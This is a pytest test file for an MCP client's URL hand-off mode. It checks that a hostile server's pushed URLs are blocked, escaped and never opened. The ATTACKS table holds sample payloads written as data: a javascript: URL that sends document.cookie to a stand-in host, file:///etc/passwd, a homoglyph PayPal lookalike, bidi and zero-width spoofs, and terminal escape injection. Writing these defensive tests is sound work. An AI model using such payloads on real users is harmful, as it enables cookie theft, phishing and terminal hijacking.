"""URL mode against a hostile server (tests/client/url_hostile_server.py), both eras, in-process.

Dangerous URLs are shown with their warnings and never opened, whatever the person or the script
answers (U3, U4); the terminal never receives a raw escape, bidi or invisible character; unknown
and repeated completion ids are ignored (U6); a server that keeps asking ends cleanly and bounded
(U7, U8, C3).
"""

from __future__ import annotations

import io
import json
import re
from typing import Any

import anyio
import pytest
from mcp.shared.exceptions import MCPError
from rich.console import Console

from mcp_elicit.client import ElicitClient, Pipeline
from mcp_elicit.client.ui_protocol import UrlPrompt
from mcp_elicit.client.url import UrlMode, UrlSettings
from mcp_elicit.errors import UrlHandoffStopped
from mcp_elicit.ui.scripted import ScriptedUI
from mcp_elicit.ui.terminal import TerminalUI, injected_input
from tests.client.url_hostile_server import HostileUrlServer
from tests.support import text_of

pytestmark = pytest.mark.anyio

BOUND_SECONDS = 30.0

# What a hostile server pushes, and the check that must block it (core/urls.py reason codes).
ATTACKS = {
    "javascript": ("javascript:fetch('//evil.example/'+document.cookie)", "scheme_not_allowed"),
    "data": ("data:text/html,<script>alert(1)</script>", "scheme_not_allowed"),
    "file": ("file:///etc/passwd", "scheme_not_allowed"),
    "vbscript": ("vbscript:msgbox(1)", "scheme_not_allowed"),
    "lookalike": ("https://p\u0430ypal.com/login", "lookalike"),
    "credentials": ("https://user:pass@accounts.example.com/", "credentials"),
    "http_remote": ("http://accounts.example.com/login", "http_not_loopback"),
    "bidi": ("https://example.com/\u202egnp.exe", "bidi_chars"),
    "invisible": ("https://pay\u200bpal.com/", "invisible_chars"),
    "escape": ("https://example.com/\x1b]8;;https://evil.example\x07x\x1b[2J", "control_chars"),
}

# What must never reach a terminal: C0 controls but newline, DEL, C1, bidi and zero-width characters.
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b-\u200f\u061c]")


class Opener:
    """A browser double: records what it was asked to open and optionally runs a step."""

    def __init__(self, step: Any = None) -> None:
        self.opened: list[str] = []
        self.step = step

    async def __call__(self, url: str) -> None:
        self.opened.append(url)
        if self.step is not None:
            await self.step(url)


def consenting() -> ScriptedUI:
    """A script that says open to every page: only the checks stand between it and the browser."""
    return ScriptedUI([{"url": "open", "repeat": True}])


def client(hostile: HostileUrlServer, era: str, ui: Any, opener: Opener, **settings: Any) -> ElicitClient:
    mode = UrlMode(opener=opener, settings=UrlSettings(**settings))
    return ElicitClient(hostile.server, ui=ui, protocol=era, url_mode=mode)


def terminal(lines: list[str]) -> tuple[TerminalUI, io.StringIO]:
    out = io.StringIO()
    screen = Console(file=out, width=100, color_system=None, markup=False, emoji=False, highlight=False)
    return TerminalUI(screen, injected_input(screen, lines)), out


async def call(c: ElicitClient, tool: str, **arguments: Any) -> Any:
    with anyio.fail_after(BOUND_SECONDS):
        return await c.call_tool(tool, arguments)


@pytest.mark.parametrize("attack", sorted(ATTACKS))
async def test_a_dangerous_pushed_url_is_shown_with_its_warning_and_never_opened_U3_U4(attack: str) -> None:
    url, reason = ATTACKS[attack]
    hostile, opener, ui = HostileUrlServer(), Opener(), consenting()
    async with client(hostile, "legacy", ui, opener) as c:
        result = await call(c, "push", url=url)
    assert text_of(result) == "decline"
    assert opener.opened == []
    [prompt] = ui.seen
    assert isinstance(prompt, UrlPrompt)
    assert prompt.verdict == "block"
    assert reason in prompt.reasons
    assert any(w.endswith(f"({reason})") for w in prompt.warnings)
    [outcome] = c.outcomes
    assert (outcome.action, outcome.reason.split(":")[0]) == ("decline", "url_blocked")
    assert reason in outcome.reason


@pytest.mark.parametrize("attack", sorted(ATTACKS))
async def test_a_dangerous_embedded_url_is_declined_and_never_opened_on_2026_U3_U4(attack: str) -> None:
    url, reason = ATTACKS[attack]
    hostile, opener, ui = HostileUrlServer(), Opener(), consenting()
    async with client(hostile, "modern", ui, opener) as c:
        result = await call(c, "embedded", url=url)
    assert json.loads(text_of(result)) == {"action": "decline"}
    assert opener.opened == []
    assert reason in c.outcomes[0].reason


@pytest.mark.parametrize("attack", sorted(ATTACKS))
async def test_the_terminal_shows_a_dangerous_url_escaped_without_an_open_option(attack: str) -> None:
    url, reason = ATTACKS[attack]
    ui, out = terminal(["open", "open"])
    hostile, opener = HostileUrlServer(), Opener()
    async with client(hostile, "legacy", ui, opener) as c:
        result = await call(c, "push", url=url)
    shown = out.getvalue()
    assert text_of(result) == "decline"
    assert opener.opened == []
    assert "This page is blocked: it cannot be opened from here." in shown
    assert f"({reason})" in shown
    assert RAW.findall(shown) == []


async def test_a_look_alike_shows_the_site_it_imitates_and_its_real_name() -> None:
    hostile, ui = HostileUrlServer(), consenting()
    async with client(hostile, "legacy", ui, Opener()) as c:
        await call(c, "push", url="https://p\u0430ypal.com/login")
    [prompt] = ui.seen
    assert isinstance(prompt, UrlPrompt)
    assert prompt.display["registrable_domain"] == "xn--pypal-4ve.com"  # Punycode, not the disguise
    assert any("looks like paypal.com" in w for w in prompt.warnings)


async def test_a_safe_url_is_opened_once_after_consent_and_a_warning_does_not_stop_it() -> None:
    hostile, opener, ui = HostileUrlServer(), Opener(), consenting()
    async with client(hostile, "legacy", ui, opener) as c:
        result = await call(c, "push", url="https://10.1.2.3/connect")
    assert text_of(result) == "accept"
    assert opener.opened == ["https://10.1.2.3/connect"]
    [prompt] = ui.seen
    assert isinstance(prompt, UrlPrompt)
    assert prompt.verdict == "warn"
    assert set(prompt.reasons) >= {"ip_literal", "private_address"}


async def test_without_explicit_consent_nothing_is_opened_U3() -> None:
    """A script written for forms (`otherwise: accept_defaults`) does not consent to pages."""
    hostile, opener, ui = HostileUrlServer(), Opener(), ScriptedUI(otherwise="accept_defaults")
    async with client(hostile, "legacy", ui, opener) as c:
        result = await call(c, "push", url="https://accounts.example.com/connect")
    assert text_of(result) == "decline"
    assert opener.opened == []


async def test_a_push_without_an_elicitation_id_is_refused_U1() -> None:
    hostile, opener = HostileUrlServer(), Opener()
    async with client(hostile, "legacy", consenting(), opener) as c:
        with pytest.raises(MCPError) as info:  # the client's -32602, passed on by the tool
            await call(c, "push", url="https://accounts.example.com/", eid="x" * 300)
    assert info.value.error.code == -32602
    assert opener.opened == []
    assert [(o.action, o.reason) for o in c.outcomes] == [("error", "elicitation_id")]


async def test_completions_for_unknown_or_repeated_ids_are_ignored_U6() -> None:
    hostile, opener = HostileUrlServer(), Opener()
    async with client(hostile, "legacy", consenting(), opener) as c:
        await call(
            c,
            "push_then_complete",
            url="https://accounts.example.com/",
            eid="mine",
            ids=["other", "mine", "mine"],
        )
        assert c.url is not None
        tracker = c.url.tracker
    assert tracker.completed("mine")
    assert not tracker.completed("other")
    assert "other" not in tracker.expected()  # an unknown id is never stored
    assert tracker.ignored == 2  # "other", and the second "mine"


async def test_a_server_that_lists_the_same_page_again_after_its_completion_is_stopped_U7() -> None:
    hostile = HostileUrlServer()
    opener = Opener(lambda url: hostile.complete("r-1"))  # the person finishes, the server says so
    ui = consenting()
    async with client(hostile, "legacy", ui, opener) as c:
        with pytest.raises(UrlHandoffStopped) as info:
            await call(c, "required", url="https://accounts.example.com/connect")
    assert (info.value.reason, info.value.rounds, info.value.elicitation_id) == ("repeated", 2, "r-1")
    assert hostile.calls["required"] == 2
    assert len(ui.seen) == 1  # consent asked once
    assert len(opener.opened) == 1


async def test_the_same_page_under_a_fresh_id_after_completion_is_stopped_too_U7() -> None:
    hostile = HostileUrlServer()
    opener = Opener(lambda url: hostile.complete("r-1"))
    async with client(hostile, "legacy", consenting(), opener) as c:
        with pytest.raises(UrlHandoffStopped) as info:
            await call(c, "required", url="https://accounts.example.com/connect", eid="r", fresh_id=True)
    assert info.value.reason == "repeated"
    assert hostile.calls["required"] == 2


async def test_minus_32042_rounds_are_bounded_when_every_round_lists_a_new_page_U7() -> None:
    hostile = HostileUrlServer()
    ids = iter(range(1, 100))
    opener = Opener(lambda url: hostile.complete(f"f-{next(ids)}"))
    ui = consenting()
    async with client(hostile, "legacy", ui, opener, max_required_rounds=3) as c:
        with pytest.raises(UrlHandoffStopped) as info:
            await call(c, "required_fresh_url", origin="https://accounts.example.com")
    assert (info.value.reason, info.value.rounds) == ("rounds_exceeded", 3)
    assert hostile.calls["required_fresh_url"] == 4
    assert len(opener.opened) == 3


async def test_a_blocked_page_in_minus_32042_ends_the_call_without_opening() -> None:
    hostile, opener = HostileUrlServer(), Opener()
    async with client(hostile, "legacy", consenting(), opener) as c:
        with pytest.raises(UrlHandoffStopped) as info:
            await call(c, "required", url="javascript:alert(1)")
    assert info.value.reason == "declined"
    assert opener.opened == []


@pytest.mark.parametrize(
    "entries",
    [
        "not a list",
        [],
        ["not an object"],
        [{"mode": "form", "message": "m", "url": "https://a.example/", "elicitationId": "1"}],
        [{"mode": "url", "message": "m", "url": "https://a.example/"}],
        [
            {"mode": "url", "message": "m", "url": f"https://a.example/{i}", "elicitationId": str(i)}
            for i in range(9)
        ],
    ],
    ids=["not-a-list", "empty", "not-an-object", "form-mode", "no-id", "too-many"],
)
async def test_a_malformed_minus_32042_ends_the_call_as_invalid_without_asking(entries: Any) -> None:
    hostile, opener, ui = HostileUrlServer(), Opener(), consenting()
    async with client(hostile, "legacy", ui, opener) as c:
        with pytest.raises(UrlHandoffStopped) as info:
            await call(c, "required_list", entries=entries)
    assert info.value.reason == "invalid"
    assert ui.seen == []
    assert opener.opened == []


async def test_waiting_for_a_completion_that_never_comes_ends_with_a_timeout() -> None:
    hostile, opener = HostileUrlServer(), Opener()

    async def no_time(seconds: float) -> None:
        await anyio.lowlevel.checkpoint()

    async with client(hostile, "legacy", consenting(), opener, sleep=no_time) as c:
        with pytest.raises(UrlHandoffStopped) as info:
            await call(c, "required", url="https://accounts.example.com/connect")
    assert info.value.reason == "timeout"
    assert len(opener.opened) == 1


async def test_on_2026_a_server_that_keeps_asking_for_the_same_page_is_bounded_U8() -> None:
    hostile, opener, ui = HostileUrlServer(), Opener(), consenting()
    delays: list[float] = []

    async def sleep(seconds: float) -> None:
        delays.append(seconds)
        await anyio.lowlevel.checkpoint()

    async with client(hostile, "modern", ui, opener, sleep=sleep, max_checks=4) as c:
        with pytest.raises(MCPError):
            await call(c, "embedded_forever", url="https://accounts.example.com/connect")
    assert len(ui.seen) == 1  # consent once
    assert len(opener.opened) == 1
    assert delays == [1.0, 2.0, 4.0, 8.0]  # the backoff
    assert [w.check for w in ui.waits if w.reason == "retry"] == [1, 2, 3, 4]
    assert hostile.calls["embedded_forever"] == 6  # the first ask, the consent, four checks
    assert c.outcomes[-1].reason == "url_checks_exhausted"


async def test_on_2026_a_declined_page_asked_for_again_ends_the_call_at_once() -> None:
    hostile, opener = HostileUrlServer(), Opener()
    ui = ScriptedUI([{"url": "decline", "repeat": True}])
    async with client(hostile, "modern", ui, opener) as c:
        with pytest.raises(MCPError):
            await call(c, "embedded_forever", url="https://accounts.example.com/connect")
    assert len(ui.seen) == 1
    assert hostile.calls["embedded_forever"] == 2
    assert c.outcomes[-1].reason == "url_asked_again"
    assert opener.opened == []


async def test_on_2026_a_blocked_page_asked_for_again_ends_the_call_at_once() -> None:
    hostile, opener = HostileUrlServer(), Opener()
    async with client(hostile, "modern", consenting(), opener) as c:
        with pytest.raises(MCPError):
            await call(c, "embedded_forever", url="javascript:alert(1)")
    assert hostile.calls["embedded_forever"] == 2
    assert opener.opened == []


async def test_a_browser_that_fails_to_open_makes_the_answer_cancel_C3() -> None:
    async def broken(url: str) -> None:
        raise OSError("no display")

    hostile, ui = HostileUrlServer(), consenting()
    mode = UrlMode(opener=broken)
    async with ElicitClient(hostile.server, ui=ui, protocol="legacy", url_mode=mode) as c:
        result = await call(c, "push", url="https://accounts.example.com/")
    assert text_of(result) == "cancel"
    assert [(o.action, o.decided_by, o.reason) for o in c.outcomes] == [("cancel", "error", "browser_failed")]
    assert any("could not be opened" in n for n in ui.notices)


async def test_a_client_without_url_mode_declares_only_forms_and_refuses_pushed_pages_C1() -> None:
    hostile, ui = HostileUrlServer(), consenting()
    async with ElicitClient(hostile.server, pipeline=Pipeline(ui), protocol="legacy") as c:
        with pytest.raises(MCPError) as info:
            await call(c, "push", url="https://accounts.example.com/")
    assert info.value.error.code == -32602
    assert ui.seen == []


async def test_the_audit_record_of_a_blocked_page_names_its_site_verdict_and_reason() -> None:
    from mcp_elicit.testing import MemoryAuditSink

    sink, hostile, opener = MemoryAuditSink(), HostileUrlServer(), Opener()
    mode = UrlMode(opener=opener)
    async with ElicitClient(
        hostile.server, ui=consenting(), protocol="legacy", url_mode=mode, audit=sink
    ) as c:
        await call(c, "push", url="https://p\u0430ypal.com/login")
    [record] = sink.records
    assert record["url"] == {"host": "xn--pypal-4ve.com", "domain": "xn--pypal-4ve.com", "verdict": "block"}
    assert (record["action"], record["reason"].split(":")[0]) == ("decline", "url_blocked")


async def test_on_2026_the_wait_for_one_page_is_bounded_in_time_by_the_clock_U8() -> None:
    now = [0.0]

    def clock() -> float:
        return now[0]

    async def sleep(seconds: float) -> None:
        now[0] += 400.0  # the person is away for a long time
        await anyio.lowlevel.checkpoint()

    hostile, opener, ui = HostileUrlServer(), Opener(), consenting()
    async with client(hostile, "modern", ui, opener, sleep=sleep, clock=clock) as c:
        with pytest.raises(MCPError):
            await call(c, "embedded_forever", url="https://accounts.example.com/connect")
    assert [w.check for w in ui.waits if w.reason == "retry"] == [
        1,
        2,
    ]  # 0 s, 400 s; at 800 s past the 600 s bound it stops
    assert c.outcomes[-1].reason == "url_checks_exhausted"


async def test_a_page_is_opened_only_once_its_consent_is_on_record_so_a_failing_audit_opens_nothing() -> None:
    from mcp_elicit.testing import MemoryAuditSink

    sink, hostile, opener = MemoryAuditSink(), HostileUrlServer(), Opener()
    sink.fail_writes = True
    async with ElicitClient(
        hostile.server, ui=consenting(), protocol="legacy", url_mode=UrlMode(opener=opener), audit=sink
    ) as c:
        result = await call(c, "push", url="https://accounts.example.com/")
    assert opener.opened == []
    assert text_of(result) == "decline"
    assert [(o.action, o.decided_by) for o in c.outcomes] == [("decline", "error")]


async def test_with_a_working_audit_the_consented_page_is_opened_after_one_accept_record() -> None:
    from mcp_elicit.testing import MemoryAuditSink

    sink, hostile, opener = MemoryAuditSink(), HostileUrlServer(), Opener()
    async with ElicitClient(
        hostile.server, ui=consenting(), protocol="legacy", url_mode=UrlMode(opener=opener), audit=sink
    ) as c:
        await call(c, "push", url="https://accounts.example.com/")
    assert opener.opened == ["https://accounts.example.com/"]
    assert [r["action"] for r in sink.records] == ["accept"]


async def test_on_2026_automatic_rechecks_of_one_page_leave_no_audit_record_of_their_own() -> None:
    """One hand-off, one record of the person's consent: the client's own re-checks are not the
    person's accept (the final refusal of the endless server is recorded, as every refusal is)."""
    from mcp_elicit.testing import MemoryAuditSink

    hostile, opener, ui = HostileUrlServer(), Opener(), consenting()
    sink = MemoryAuditSink()

    async def sleep(seconds: float) -> None:
        await anyio.lowlevel.checkpoint()

    mode = UrlMode(opener=opener, settings=UrlSettings(sleep=sleep, max_checks=3))
    async with ElicitClient(hostile.server, ui=ui, protocol="modern", url_mode=mode, audit=sink) as c:
        with pytest.raises(MCPError):
            await call(c, "embedded_forever", url="https://accounts.example.com/connect")
    assert [o.reason for o in c.outcomes].count("url_check") == 3
    records = sink.records
    assert all(r.get("reason") != "url_check" for r in records)
    assert [r["action"] for r in records].count("accept") == 1  # the person's (script's) consent
    assert len(records) == len(c.outcomes) - 3
